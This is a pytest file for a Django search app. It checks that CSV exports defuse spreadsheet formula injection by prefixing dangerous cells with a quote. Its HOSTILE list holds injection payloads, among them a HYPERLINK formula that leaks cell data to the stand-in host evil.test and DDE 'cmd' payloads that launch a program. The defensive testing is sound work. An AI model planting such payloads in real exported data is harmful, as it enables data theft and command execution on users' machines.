"""The CSV export cannot run formulas in a researcher's spreadsheet (OWASP: CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse

from aiwatch.search.indexing import rebuild
from tests.factories import ArticleFactory

pytestmark = pytest.mark.django_db
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("https://evil.test/?leak="&A1,"tokens")',
    "+1+cmd|' /C calc'!A0 tokens",
    "-2+3+cmd|' /C calc'!A0 tokens",
    "@SUM(1+1)*cmd|' /C calc'!A0 tokens",
    "\t=1+1 tokens",
    "\r=1+1 tokens",
]


def rows(client, q):
    response = client.get(reverse("search"), {"q": q, "format": "csv"})
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def test_no_exported_cell_starts_a_formula(client):
    for n, text in enumerate(HOSTILE):
        ArticleFactory(title=text, body=f"{text}\n\nMore about tokens {n}.")
    rebuild()
    exported = rows(client, "tokens")[1:]
    assert len(exported) == len(HOSTILE)
    for row in exported:
        for cell in row:
            assert not cell.startswith(TRIGGERS), row
    titles = {row[1] for row in exported}
    # The text is kept whole: one quote in front, which the spreadsheet hides.
    assert {"'" + text for text in HOSTILE} == titles
